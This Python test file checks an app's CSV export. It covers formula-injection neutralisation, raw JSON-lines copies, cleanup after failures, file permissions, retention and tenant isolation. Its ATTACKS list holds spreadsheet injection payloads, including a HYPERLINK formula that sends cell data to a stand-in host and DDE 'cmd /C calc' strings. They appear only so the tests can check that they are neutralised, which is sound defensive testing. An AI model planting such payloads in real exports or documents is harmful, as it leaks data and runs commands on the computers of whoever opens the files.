"""CSV exports: safe to open in a spreadsheet, raw values beside them, no leftovers, expiry."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import time
import uuid
from pathlib import Path

import pytest

from console_client import Console, add_staff
from mentorflow.flows import export
from mentorflow.flows.export import create_export
from mentorflow.jobs import runner as jobs
from mentorflow.jobs.models import Job, JobStatus
from mentorflow.platform.db import begin_write
from mentorflow.platform.extensions import db
from mentorflow.tenants.models import Role
from mentorflow.worker import tasks
from mentorflow.worker.celery_setup import beat_schedule

FORMULAS_FLOW = """
slug: formulas
title: Formulas
phases:
  - id: only
    title: Only
    steps:
      - {id: motto, type: text, key: motto, prompt: "Your motto"}
      - {id: story, type: long_text, key: story, prompt: "Your story"}
      - {id: balance, type: number, key: balance, prompt: "Your balance"}
"""
#: What a learner may type, and what a spreadsheet would otherwise run.
ATTACKS = {
    '=HYPERLINK("http://evil.example/?"&A1,"click")': "'=HYPERLINK",
    "+1+cmd|' /C calc'!A0": "'+1+cmd",
    "-2+3": "'-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM",
}


@pytest.fixture
def mentor(ctx):
    def factory(org) -> Console:
        email = add_staff(org, f"mentor-{uuid.uuid4().hex[:6]}@example.com", Role.MENTOR)
        console = Console(ctx.test_client())
        assert console.login(email).status_code == 302
        return console

    return factory


def walk(learner, studio, motto: str, story: str, balance: float, **contact) -> str:
    walker = learner(studio)
    assert walker.start("formulas", **contact).status_code == 201
    for step, answer in (("motto", motto), ("story", story), ("balance", balance)):
        response = walker.answer(step, answer)
        assert response.status_code == 200, response.json
    return walker.session_id


def run_export(org) -> Job:
    begin_write(db.session)
    job = create_export(org, "formulas", by="tests")
    db.session.commit()
    job_id = job.id
    jobs.run_job(job_id)
    db.session.rollback()
    return db.session.get(Job, job_id)


def org_files(ctx, org) -> list[str]:
    folder = Path(ctx.instance_path) / "exports" / str(org.id)
    return sorted(p.name for p in folder.iterdir()) if folder.is_dir() else []


def test_formula_cells_are_neutralized_and_the_raw_values_kept_beside_them(
    ctx, create_org, publish_flow, learner, mentor
):
    studio = create_org()
    publish_flow(studio.org, FORMULAS_FLOW)
    attacks = list(ATTACKS)
    ids = [
        walk(learner, studio, attacks[0], attacks[1], -3, name="=1+2", external_user_id="@me"),
        walk(learner, studio, attacks[2], attacks[3], 2.5),
        walk(learner, studio, "a-b", "=1+1", 0, name="Ada -the- Learner"),
    ]
    attacks += ["a-b", "=1+1"]

    job = run_export(studio.org)

    assert job.status == JobStatus.COMPLETED, job.error
    console = mentor(studio.org)
    download = console.get(f"/admin/jobs/{job.id}/download")
    assert download.status_code == 200
    rows = list(csv.DictReader(io.StringIO(download.get_data(as_text=True), newline="")))
    download.close()
    assert [row["session_id"] for row in rows] == ids
    cells = [row[key] for row in rows for key in ("motto", "story")]
    assert [
        cell[: len(start)] for cell, start in zip(cells[:4], ATTACKS.values(), strict=True)
    ] == list(ATTACKS.values())
    assert cells[4:] == ["a-b", "'=1+1"]
    assert [cell[1:] for cell in cells if cell != "a-b"] == [a for a in attacks if a != "a-b"]
    assert (rows[0]["name"], rows[0]["external_user_id"]) == ("'=1+2", "'@me")
    assert rows[2]["name"] == "Ada -the- Learner"  # a dash inside text is left alone
    # Numeric answers are numbers, never formulas: -3 stays minus three.
    assert [row["balance"] for row in rows] == ["-3", "2.5", "0"]

    # The JSON-lines file beside it has every value exactly as the learner typed it.
    page = console.get(f"/admin/jobs/{job.id}").get_data(as_text=True)
    assert f'href="/admin/jobs/{job.id}/download?format=jsonl"' in page
    raw = console.get(f"/admin/jobs/{job.id}/download?format=jsonl")
    assert raw.status_code == 200 and raw.mimetype == "application/jsonl"
    assert f"{studio.slug}-formulas-{job.id}.jsonl" in raw.headers["Content-Disposition"]
    lines = [json.loads(line) for line in raw.get_data(as_text=True).splitlines()]
    raw.close()
    assert [line["session_id"] for line in lines] == ids
    assert [line["answers"][key] for line in lines for key in ("motto", "story")] == attacks
    assert [line["answers"]["balance"] for line in lines] == [-3, 2.5, 0]
    assert (lines[0]["name"], lines[0]["external_user_id"]) == ("=1+2", "@me")
    assert console.get(f"/admin/jobs/{job.id}/download?format=exe").status_code == 404

    # The API serves both files to a secret key, and names both in the job.
    auth = {"Authorization": f"Bearer {studio.sk}"}
    client = ctx.test_client()
    described = client.get(f"/v1/orgs/{studio.slug}/jobs/{job.id}", headers=auth).json
    assert described["raw_download_url"].endswith(f"/jobs/{job.id}/download?format=jsonl")
    by_api = client.get(described["raw_download_url"], headers=auth)
    assert by_api.status_code == 200 and by_api.mimetype == "application/jsonl"
    assert [
        json.loads(line)["answers"]["motto"] for line in by_api.get_data(True).splitlines()
    ] == [
        attacks[0],
        attacks[2],
        "a-b",
    ]
    by_api.close()
    csv_by_api = client.get(described["download_url"], headers=auth)
    assert "'=HYPERLINK" in csv_by_api.get_data(as_text=True)
    csv_by_api.close()
    bad = client.get(f"{described['download_url']}?format=xlsx", headers=auth)
    assert bad.status_code == 422 and "format" in bad.get_data(as_text=True)


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        (" =1+1", " =1+1"),
        ("a=1", "a=1"),
        ("", ""),
    ],
)
def test_text_a_spreadsheet_would_run_starts_with_an_apostrophe(text, cell):
    assert export._cell(text) == cell
    assert export._cell(["=1"]) == '["=1"]' and export._cell(-3) == -3


def test_an_export_that_fails_midway_leaves_no_file_and_says_why(
    ctx, create_org, publish_flow, learner, mentor, monkeypatch
):
    studio = create_org()
    publish_flow(studio.org, FORMULAS_FLOW)
    for n in range(3):
        walk(learner, studio, f"motto {n}", "story", n)
    cell = export._cell

    def fail_on_the_second_session(value):
        if value == "motto 1":
            raise UnicodeEncodeError("utf-8", "\ud800", 0, 1, "surrogates not allowed")
        return cell(value)

    monkeypatch.setattr(export, "_cell", fail_on_the_second_session)

    job = run_export(studio.org)

    assert job.status == JobStatus.FAILED
    assert org_files(ctx, studio.org) == []  # neither the CSV, the JSON lines nor a .partial
    assert job.error.startswith("The export stopped after 1 of 3 sessions (UnicodeEncodeError")
    assert job.error.endswith("no file was kept.")
    console = mentor(studio.org)
    page = console.get(f"/admin/jobs/{job.id}").get_data(as_text=True)
    assert "The export stopped after 1 of 3 sessions" in page and "Download CSV" not in page
    assert console.get(f"/admin/jobs/{job.id}/download").status_code == 409


def test_export_files_are_readable_by_their_owner_only(ctx, create_org, publish_flow, learner):
    studio = create_org()
    publish_flow(studio.org, FORMULAS_FLOW)
    walk(learner, studio, "motto", "story", 1)

    job = run_export(studio.org)

    assert job.status == JobStatus.COMPLETED, job.error
    for suffix in (".csv", ".jsonl"):
        path = jobs.job_file(job, suffix)
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700


def test_exports_are_deleted_after_the_retention(ctx, create_org, publish_flow, learner, mentor):
    studio = create_org()
    publish_flow(studio.org, FORMULAS_FLOW)
    walk(learner, studio, "motto", "story", 1)
    old, fresh = run_export(studio.org), run_export(studio.org)
    retention = int(ctx.config["EXPORT_RETENTION"])
    long_ago = time.time() - retention - 60
    for path in jobs.job_files(old):
        os.utime(path, (long_ago, long_ago))
    # A partial file a killed worker left an hour and more ago goes too.
    dead = jobs.partial_file(jobs.job_file(fresh)).with_name("job-999999.csv.partial")
    dead.write_text("session_id\n")
    os.utime(dead, (time.time() - 7200, time.time() - 7200))

    # .run(): the task body in this test's app, not the app Celery made current last.
    assert tasks.purge_expired_exports.run() == 3

    assert org_files(ctx, studio.org) == [f"job-{fresh.id}.csv", f"job-{fresh.id}.jsonl"]
    console = mentor(studio.org)
    page = console.get(f"/admin/jobs/{old.id}").get_data(as_text=True)
    assert 'id="export-expired"' in page and "Download CSV" not in page
    assert console.get(f"/admin/jobs/{old.id}/download").status_code == 410
    assert console.get(f"/admin/jobs/{old.id}/download?format=jsonl").status_code == 410
    gone = ctx.test_client().get(
        f"/v1/orgs/{studio.slug}/jobs/{old.id}/download",
        headers={"Authorization": f"Bearer {studio.sk}"},
    )
    assert gone.status_code == 410 and gone.mimetype == "application/problem+json"
    kept = console.get(f"/admin/jobs/{fresh.id}")
    assert "Both files are deleted after" in kept.get_data(as_text=True)
    still = console.get(f"/admin/jobs/{fresh.id}/download")
    still.close()
    assert still.status_code == 200
    assert "purge-expired-exports" in beat_schedule(15)


def test_an_export_never_writes_another_orgs_sessions(ctx, create_org, publish_flow, learner):
    first, second = create_org(), create_org()
    for studio in (first, second):
        publish_flow(studio.org, FORMULAS_FLOW)
    mine = walk(learner, first, "mine", "story", 1)
    walk(learner, second, "theirs", "story", 2)

    job = run_export(first.org)

    lines = jobs.job_file(job, ".jsonl").read_text().splitlines()
    assert [json.loads(line)["session_id"] for line in lines] == [mine]
